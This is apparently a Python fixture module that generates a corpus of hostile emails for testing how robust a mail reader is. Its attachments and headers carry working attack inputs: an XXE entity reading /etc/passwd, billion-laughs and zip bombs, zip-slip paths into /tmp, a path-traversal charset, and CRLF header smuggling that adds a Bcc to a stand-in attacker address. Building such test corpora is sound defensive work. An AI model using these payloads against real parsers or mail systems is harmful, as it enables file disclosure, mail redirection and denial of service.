"""The hostile corpus (issue 13): every mail a mailbox can receive that a reader might choke on.

Not a test module: tests/test_hostile.py and benchmarks/hostile.py use it. `hostile_mails()` returns
(name, raw bytes) pairs: CPython's malformed test mails (tests/fixtures/hostile/cpython, PSF licence), the
hand-written cases of tests/fixtures/hostile/cases (see the README there for their sources), and bombs made here
at run time (never committed: some are tens of MB once decoded).
"""

from __future__ import annotations

import base64
import io
import zipfile
from pathlib import Path

HOSTILE = Path(__file__).resolve().parent / "fixtures" / "hostile"
SMUGGLED = "evil@attacker.example"  # an address smuggled into headers: no mail may ever go there
ZIP_SLIP_NAME = "i13-zip-slip-was-here.txt"  # a file of this name must never appear anywhere


def _head(name: str, subject: str = "Medlemslista SKIS 2025", extra: str = "", content_type: str = "") -> bytes:
    return (
        f"From: Anna Svensson <anna.svensson@skovde.se>\r\nTo: utbildning@skaraborg.se\r\n"
        f"Subject: {subject}\r\nMessage-ID: <hostile-{name}@skovde.se>\r\nDate: Fri, 14 Mar 2025 10:00:00 +0100\r\n"
        f"MIME-Version: 1.0\r\n{extra}"
        f"Content-Type: {content_type or 'multipart/mixed; boundary=BB'}\r\n\r\n"
    ).encode()


def _with_attachment(name: str, filename: str, content_type: str, data: bytes, subject: str = "") -> bytes:
    return (
        _head(name, subject or "Medlemslista SKIS 2025")
        + b"--BB\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nHej, listan bifogas.\r\n--BB\r\n"
        + f'Content-Type: {content_type}; name="{filename}"\r\nContent-Disposition: attachment; '
        f'filename="{filename}"\r\nContent-Transfer-Encoding: base64\r\n\r\n'.encode()
        + base64.encodebytes(data)
        + b"--BB--\r\n"
    )


def _zip(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for entry, data in entries.items():
            archive.writestr(entry, data)
    return buffer.getvalue()


XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
_DOCX_TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_DOCX_RELS = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'officeDocument" Target="word/document.xml"/></Relationships>'
)


def _docx(document_xml: bytes, extra: dict[str, bytes] | None = None) -> bytes:
    entries = {"[Content_Types].xml": _DOCX_TYPES, "_rels/.rels": _DOCX_RELS, "word/document.xml": document_xml}
    return _zip({**entries, **(extra or {})})


def _docx_body(text: bytes, doctype: bytes = b"") -> bytes:
    return (
        b'<?xml version="1.0"?>' + doctype + b'<w:document xmlns:w="http://schemas.openxmlformats.org/'
        b'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>' + text + b"</w:t></w:r></w:p></w:body></w:document>"
    )


def _million_rows_xlsx() -> bytes:
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["Namn", "E-post", "Kommun"])
    for row in range(2, 20_002):
        sheet.append([f"Person {row}", f"person{row}@skovde.se", "Skövde"])
    sheet.cell(row=1_048_576, column=16_384, value="sista")  # declares a sheet of 1,048,576 x 16,384
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _looping_pdf() -> bytes:
    """A PDF whose page tree points back at itself and whose outline entries form a cycle."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /Outlines 4 0 R >>",
        b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 5 0 R >>",
        b"<< /Type /Outlines /First 6 0 R /Last 6 0 R /Count 1 >>",
        b"<< /Length 44 >>\nstream\nBT /F1 12 Tf 72 720 Td (Protokoll) Tj ET\nendstream",
        b"<< /Title (loop) /Parent 4 0 R /Next 6 0 R /Prev 6 0 R /First 6 0 R >>",
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref, xref)
    return bytes(out)


def _ics(rule: str) -> bytes:
    return (
        "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nMETHOD:REQUEST\r\nPRODID:hostile\r\nBEGIN:VEVENT\r\nUID:bomb@skovde.se\r\n"
        f"DTSTART:20250401T090000Z\r\nDTEND:20250401T100000Z\r\n{rule}\r\nSUMMARY:SKIS-träff\r\nEND:VEVENT\r\n"
        "END:VCALENDAR\r\n"
    ).encode()


def generated() -> list[tuple[str, bytes]]:
    mails: list[tuple[str, bytes]] = []
    # MIME structure
    nesting = b"".join(b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (i, i) for i in range(2000))
    mails.append(("nesting-2000", _head("nesting-2000", content_type="multipart/mixed; boundary=top")[:-2] + nesting))
    parts = b"".join(b"--BB\r\nContent-Type: text/plain\r\n\r\nDel %d\r\n" % i for i in range(5000))
    mails.append(("parts-5000", _head("parts-5000") + parts + b"--BB--\r\n"))
    inner = b"From: x@hjo.se\r\nSubject: inre\r\n\r\nHej\r\n"
    for _ in range(300):
        inner = b"From: x@hjo.se\r\nSubject: Fwd\r\nContent-Type: message/rfc822\r\n\r\n" + inner
    mails.append(("rfc822-300-deep", _head("rfc822-300-deep", content_type="message/rfc822") + inner))
    mails.append(
        (
            "truncated-base64",
            _with_attachment("truncated-base64", "lista.xlsx", XLSX, _million_rows_xlsx()[:5000])[:-400],
        )
    )
    # headers
    mails.append(("subject-1mib", _head("subject-1mib", subject="Medlemslista " + "x" * (1 << 20)) + b"--BB--\r\n"))
    word = "=?utf-8?b?" + base64.b64encode("Mötesdatum ".encode()).decode() + "?="
    mails.append(("encoded-words-1mib", _head("encoded-words-1mib", subject=" ".join([word] * 40_000)) + b"--BB--\r\n"))
    recipients = ", ".join(f"Person {i} <person{i}@skovde.se>" for i in range(5000))
    mails.append(("to-5000", _head("to-5000", extra=f"Cc: {recipients}\r\n") + b"--BB--\r\n"))
    mails.append(
        (
            "nul-8bit-headers",
            _head("nul-8bit-headers", subject="Prot\x00okoll", extra="X-Junk: JUNK\r\n").replace(
                b"JUNK", b"\xff\xfe\x00\x80"
            )
            + b"--BB\r\nContent-Type: text/plain; charset=x-unknown-9\r\n\r\nHej \xe5\xe4\xf6\r\n--BB--\r\n",
        )
    )
    mails.append(
        (
            "charset-path",
            _head("charset-path", content_type='text/plain; charset="../../../../etc/passwd"') + b"Hej\r\n",
        )
    )
    # smuggling: CR/LF in an encoded word, a Bcc and a Reply-To elsewhere
    smuggle = base64.b64encode(f"Mötesdatum SKIS\r\nBcc: {SMUGGLED}".encode()).decode()
    mails.append(
        (
            "header-smuggling",
            _head(
                "header-smuggling",
                subject=f"=?utf-8?b?{smuggle}?=",
                extra=f"Reply-To: {SMUGGLED}\r\nReturn-Path: <{SMUGGLED}>\r\nX-To: {SMUGGLED}\r\n",
                content_type="text/plain; charset=utf-8",
            )
            + "Mötesdatum SKIS HT 2025: 12 september kl 9-12 i Skövde.\r\n".encode(),
        )
    )
    # attachments
    garbage = bytes((i * 7919 + 13) % 95 + 32 for i in range(400_000))  # 400 kB of printable noise, no newline
    mails.append(("garbage-csv-400k", _with_attachment("garbage-csv-400k", "medlemmar.csv", "text/csv", garbage)))
    mails.append(
        ("spaces-csv-400k", _with_attachment("spaces-csv-400k", "datum.csv", "text/csv", b"a" + b" " * 400_000))
    )
    bomb = _zip({"[Content_Types].xml": b"<Types/>", "xl/worksheets/sheet1.xml": b"<a>" + b" " * (200 << 20)})
    mails.append(("zip-bomb-xlsx", _with_attachment("zip-bomb-xlsx", "medlemmar.xlsx", XLSX, bomb)))
    mails.append(
        ("million-rows-xlsx", _with_attachment("million-rows-xlsx", "medlemmar.xlsx", XLSX, _million_rows_xlsx()))
    )
    xxe = _docx_body(b"&xxe;", b'<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')
    mails.append(("xxe-docx", _with_attachment("xxe-docx", "medlemmar.docx", DOCX, _docx(xxe))))
    laughs = b"".join(
        b'<!ENTITY l%d "&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;">' % ((i,) + (i - 1,) * 10)
        for i in range(1, 10)
    )
    billion = _docx_body(b"&l9;", b'<!DOCTYPE d [<!ENTITY l0 "ha">' + laughs + b"]>")
    mails.append(
        ("billion-laughs-docx", _with_attachment("billion-laughs-docx", "protokoll.docx", DOCX, _docx(billion)))
    )
    slip = _docx(_docx_body(b"Protokoll"), {f"../../../../../tmp/{ZIP_SLIP_NAME}": b"x", f"/tmp/{ZIP_SLIP_NAME}": b"x"})
    mails.append(("zip-slip-docx", _with_attachment("zip-slip-docx", "protokoll.docx", DOCX, slip)))
    mails.append(
        (
            "looping-pdf",
            _with_attachment(
                "looping-pdf", "protokoll.pdf", "application/pdf", _looping_pdf(), "Protokoll SKIS 12 mars 2025"
            ),
        )
    )
    for name, rule in (
        ("rrule-secondly", "RRULE:FREQ=SECONDLY;COUNT=100000"),
        ("rrule-unbounded", "RRULE:FREQ=DAILY"),
        ("rrule-never", "RRULE:FREQ=YEARLY;BYMONTH=2;BYMONTHDAY=30"),
    ):
        mails.append((name, _with_attachment(name, "invite.ics", "text/calendar", _ics(rule), "Mötesdatum SKIS")))
    big = bytes((i * 31 + 7) % 256 for i in range(1 << 16)) * 480  # ~30 MB: over the default size limit
    mails.append(("attachment-30mb", _with_attachment("attachment-30mb", "protokoll.pdf", "application/pdf", big)))
    mails.append(("no-headers-at-all", b"\r\n\r\nbara en kropp\r\n"))
    mails.append(("blank", b"\r\n"))  # Dovecot refuses a zero-byte message; a lone line break it keeps
    return mails


def hostile_mails() -> list[tuple[str, bytes]]:
    """Every mail of the corpus, distinct bytes (a mailbox holding the same bytes twice records them once)."""
    mails = [(path.name, path.read_bytes()) for path in sorted((HOSTILE / "cpython").glob("msg_*.txt"))]
    mails += [(path.name, path.read_bytes()) for path in sorted((HOSTILE / "cases").glob("*.eml"))]
    mails += generated()
    seen: set[bytes] = set()
    distinct = []
    for name, raw in mails:
        if raw not in seen:
            seen.add(raw)
            distinct.append((name, raw))
    return distinct
